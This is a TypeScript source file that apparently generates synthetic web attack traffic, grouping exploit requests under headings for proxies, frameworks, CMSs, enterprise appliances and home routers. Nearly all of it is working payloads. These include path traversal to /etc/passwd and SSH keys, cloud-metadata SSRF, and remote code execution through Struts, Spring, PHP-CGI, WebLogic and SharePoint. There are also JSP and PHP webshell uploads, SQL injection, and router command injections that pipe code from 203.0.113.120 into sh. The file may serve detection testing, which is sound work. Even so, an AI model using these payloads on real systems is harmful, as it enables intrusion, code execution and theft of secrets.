import type { Chance } from '../../make/chance.ts';
import type { WholeWriter } from '../../make/whole.ts';
import { named } from './named.ts';

const form = 'application/x-www-form-urlencoded';

/** Known holes of proxies, gates, frameworks, shops, and devices. */
export function writeGates(write: WholeWriter, chance: Chance): void {
  writeProxies(write);
  writeFrameworks(write, chance);
  writeSites(write);
  writeFirms(write);
  writeDevices(write);
}

function writeProxies(write: WholeWriter): void {
  const technique = named(write, 'advisory');
  technique('Apache: encoded dots and inner handlers');
  write.get('/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/group');
  write.send('/cgi-bin/%2e%2e/.%2e/%2e%2e/.%2e/bin/bash', form, 'echo Content-Type: text/plain; echo; hostname');
  write.get('/?unix:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA|http://169.254.169.254/latest/');
  technique('nginx and its kin: an alias without a slash');
  write.get('/assets../.env');
  write.get('/media../settings.py');
  write.json('/admission/v1/ingresses', {
    kind: 'AdmissionReview',
    request: {
      uid: 'a',
      object: {
        kind: 'Ingress',
        metadata: {
          annotations: { 'nginx.ingress.kubernetes.io/auth-url': 'http://a/#;}}}ssl_engine /proc/9/fd/12;{{{' },
        },
      },
    },
  });
  technique('APISIX and Kong: the admin behind');
  write.json('/apisix/batch-requests', {
    headers: { 'X-Real-IP': '127.0.0.1', 'X-API-KEY': 'edd1c9f034335f136f87ad84b625c8f1' },
    pipeline: [
      {
        method: 'PUT',
        path: '/apisix/admin/routes/9',
        body: '{"uri":"/r","filter_func":"function(v) os.execute(\'id\') return true end"}',
      },
    ],
  });
  write.get('/apisix/admin/migrate/export');
  write.json('/services/x/plugins', { name: 'pre-function', config: { access: ["os.execute('curl 203.0.113.120')"] } });
  technique('HAProxy, Traefik, Envoy, Caddy: paths that slip past');
  write.get('/dashboard/..%2fapi%2frawdata', { 'x-forwarded-prefix': '//attacker.example' });
  write.get('/public#/../admin/', { 'x-forwarded-for': '127.0.0.1' });
  write.get('/static/%2e%2e%2fquitquitquit', {
    'x-envoy-internal': 'true',
    'x-envoy-original-dst-host': '169.254.169.254:80',
  });
  technique('oauth2-proxy, Authelia, Keycloak: where to go after');
  write.get('/oauth2/sign_out?rd=%2F%09%2Fattacker.example');
  write.get(
    '/auth/realms/master/protocol/openid-connect/auth?scope=openid&response_type=code&redirect_uri=valid&state=x&nonce=n&client_id=security-admin-console&request_uri=http://169.254.169.254/',
  );
  write.send(
    '/auth/realms/master/clients-registrations/openid-connect',
    'application/json',
    '{"<img src=x onerror=alert(1)>":1}',
  );
  technique('Tomcat: sessions by parts');
  write.send(
    '/up.jsp/',
    'application/octet-stream',
    '<% out.println(new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream()).next()); %>',
    { method: 'PUT' },
  );
  technique('WebLogic: the console twice encoded');
  write.send(
    '/wls-wsat/RegistrationPortTypeRPC',
    'text/xml',
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>uptime</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
  );
}

function writeFrameworks(write: WholeWriter, chance: Chance): void {
  const technique = named(write, 'advisory');
  technique('Next.js: middleware that is skipped');
  write.get('/dashboard/users', {
    'x-middleware-subrequest': Array.from({ length: 5 }, () => 'src/middleware').join(':'),
  });
  write.get('/?__nextDataReq=1&x=1', {
    'x-now-route-matches': '1',
    'x-middleware-prefetch': '1',
    'x-invoke-status': '888',
  });
  technique('React: server functions that load');
  const flight = `--rS\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B0\\"}","_response":{"_prefix":"process.mainModule.require('child_process').execSync('env');","_formData":{"get":"$1:constructor:constructor"}}}\r\n--rS\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--rS--\r\n`;
  write.send('/', 'multipart/form-data; boundary=rS', flight, { headers: { 'next-action': chance.hex(40) } });
  write.send('/apps/start', 'multipart/form-data; boundary=rS', flight.replace('env', 'curl 203.0.113.120'), {
    headers: { 'rsc-action': 'x' },
  });
  technique('Vite and webpack: files of the developer');
  write.get('/@fs/root/.ssh/id_rsa?import&raw??');
  write.get('/webpack/../../../../../../proc/self/environ');
  technique('Spring: names of classes and expressions');
  write.send(
    '/owners/new',
    form,
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bp%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.prefix=w',
  );
  write.json('/actuator/gateway/routes/z9', {
    id: 'z9',
    filters: [
      {
        name: 'AddResponseHeader',
        args: {
          name: 'R',
          value: "#{new String(T(java.lang.Runtime).getRuntime().exec('id').getInputStream().readAllBytes())}",
        },
      },
    ],
    uri: 'http://example.com',
  });
  technique('Struts: OGNL in types and names');
  write.get('/index.action', {
    'content-type': "%{(#m='multipart/form-data').(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}",
  });
  write.send(
    '/doUpload.action',
    'multipart/form-data; boundary=sT',
    '--sT\r\nContent-Disposition: form-data; name="Upload"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n<%=1%>\r\n--sT\r\nContent-Disposition: form-data; name="top.uploadFileName"\r\n\r\n../../k.jsp\r\n--sT--\r\n',
  );
  technique('Laravel: mended by Ignition, and its queue');
  write.json('/livewire/update', {
    components: [
      {
        snapshot:
          '{"data":{"a":[{"x":1},{"s":"clctn","class":"Illuminate\\\\Broadcasting\\\\BroadcastEvent"}]},"checksum":"x"}',
        updates: {
          a: ['phpinfo', { s: 'clctn', class: 'League\\Flysystem\\UrlGeneration\\ShardedPrefixPublicUrlGenerator' }],
        },
        calls: [],
      },
    ],
  });
  technique('PHP and PHPUnit: arguments and input');
  write.send(
    '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    form,
    '<?php echo shell_exec("ver");',
  );
  write.send('/vendor/phpunit/src/Util/PHP/eval-stdin.php', 'text/plain', '<?=md5(73);system("id");');
  technique('ThinkPHP and Yii: methods by name');
  write.get(
    '/public/?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=assert&vars[1][]=phpinfo()',
  );
  write.get('/?lang=../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=system($_GET[1]);?>+/tmp/k.php');
  technique('Rails: a file by what is accepted');
  write.get('/robots', { accept: '../../../../../../../../config/master.key{{' });
  write.send(
    '/users',
    'application/xml',
    '<?xml version="1.0"?><x type="yaml">--- !ruby/object:ERB\nsrc: system("id")\n</x>',
  );
}

function writeSites(write: WholeWriter): void {
  const technique = named(write, 'advisory');
  technique('WordPress: plugins that run or tell');
  write.send(
    '/?rest_route=/litespeed/v1/cdn_status',
    form,
    '_wpnonce=x&success=1&result[_msg]=<script>alert(1)</script>',
  );
  write.get('/wp-content/plugins/wp-automatic/downloader.php?q=1&link=file:///etc/passwd');
  write.send(
    '/wp-content/plugins/wp-automatic/inc/csv.php',
    form,
    "q=INSERT+INTO+wp_users+(user_login,user_pass)+VALUES+('z','z')&auth=%00&integ=1",
  );
  technique('Drupal, TYPO3, Craft: objects and forms');
  write.send(
    '/node/1?_format=hal_json',
    'application/hal+json',
    '{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";s:7:\\"phpinfo\\";}s:9:\\"_fn_close\\";s:7:\\"phpinfo\\";}"}],"_links":{"type":{"href":"http://a/rest/type/shortcut/default"}}}',
  );
  technique('Joomla and Magento: open interfaces');
  write.json('/rest/V1/guest-carts/1/estimate-shipping-methods', {
    address: {
      totalsReader: {
        collectorList: {
          totalCollector: {
            sourceData: {
              data: "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY % s SYSTEM 'http://203.0.113.120/c.dtd'>%s;]><r/>",
              options: 524290,
            },
          },
        },
      },
    },
  });
  write.send(
    '/customer/address_file/upload',
    'multipart/form-data; boundary=mG',
    '--mG\r\nContent-Disposition: form-data; name="custom_attributes[country_id]"; filename="sess_a.php"\r\n\r\n<?=`id`?>\r\n--mG--\r\n',
  );
  technique('Cacti, Zabbix, GLPI: monitors that obey');
  write.get('/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=;curl%20203.0.113.120|sh', {
    'x-forwarded-for': '127.0.0.1',
  });
  write.get(
    '/zabbix/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)',
  );
  write.send('/vendor/htmlawed/htmlawed/htmLawedTest.php', form, 'sid=x&hhook=exec&text=cat+/etc/passwd');
  write.send(
    '/glpi/front/inventory.php',
    'application/xml',
    "<?xml version=\"1.0\"?><REQUEST><DEVICEID>', (select sleep(5) from dual), '') #</DEVICEID><QUERY>get_params</QUERY></REQUEST>",
  );
}

function writeFirms(write: WholeWriter): void {
  const technique = named(write, 'advisory');
  technique('Exchange and SharePoint: fronts that trust');
  write.send(
    '/_layouts/15/ToolPane.aspx/x?DisplayMode=Edit&a=/ToolPane.aspx',
    form,
    'MSOTlPn_Uri=http://a/_controltemplates/15/AclEditor.ascx&MSOTlPn_DWP=<%@+Register+Tagprefix="S"+Namespace="Microsoft.PerformancePoint.Scorecards"+%><S:ExcelDataSet+CompressedDataTable="H4sIAAAAAAAEAO1Z"/>',
    { headers: { referer: '/_layouts/SignOut.aspx' } },
  );
  technique('PAN-OS and FortiOS: gates that open');
  write.get('/php/ztp_gate.php/.js.map', { 'x-pan-authcheck': 'off' });
  write.get('/api/fabric/device/status', { authorization: "Bearer x'or/**/'1'='1" });
  technique('BIG-IP, NetScaler, Ivanti: gates of firms');
  write.get('/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20203.0.113.120%7Csh%3B');
  write.get(
    "/mifs/rs/api/v2/featureusage?format=${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
  );
  write.get('/vpn/js/../../vpns/cfg/smb.conf');
  technique('MOVEit, GoAnywhere, CrushFTP: movers of files');
  write.get('/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml');
  technique('ScreenConnect, Openfire, PaperCut: setup once more');
  write.get('/SetupWizard.aspx/anything');
  write.get(
    '/setup/setup-s/%u002e%u002e/%u002e%u002e/user-create.jsp?username=q&password=q&passwordConfirm=q&isadmin=on&create=1',
  );
  write.send(
    '/app',
    form,
    'service=direct/1/PrinterDetails/$PrinterDetailsScript.$Form&scriptBody=function+printJobHook(i,a){}java.lang.Runtime.getRuntime().exec("cmd");&enablePrintScript=on',
  );
}

function writeDevices(write: WholeWriter): void {
  const technique = named(write, 'advisory');
  technique('routers at home');
  write.send('/boaform/admin/formPing', form, 'target_addr=;wget+203.0.113.120/g+-O+-|sh&waninf=1_INTERNET_R_VID_1');
  write.send(
    '/ztp/cgi-bin/handler',
    'application/json',
    '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; ping 203.0.113.120;","data":"hi"}',
  );
  write.send(
    '/goform/set_LimitClient_cfg',
    form,
    'time1=00:00-00:00&time2=00:00-00:00&mac=;wget 203.0.113.120/l -O-|sh;',
    { headers: { cookie: 'user=admin' } },
  );
  technique('stores in the network');
  write.send('/photo/p/api/album.php', form, 'id=1&f=UserPreferences&fn=../../../../../../etc/config/shadow');
  technique('meetings, calls and print');
  write.get('/recordings/index.php?page=../../../../etc/amportal.conf%00');
  write.get(
    "/admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&model=model&brand=x'%20;INSERT%20INTO%20cron_jobs%20(command)%20VALUES%20('id')%20--%20",
  );
  write.get('/hp/device/webAccess/../../../../../data/config/device.cfg?x=../');
}
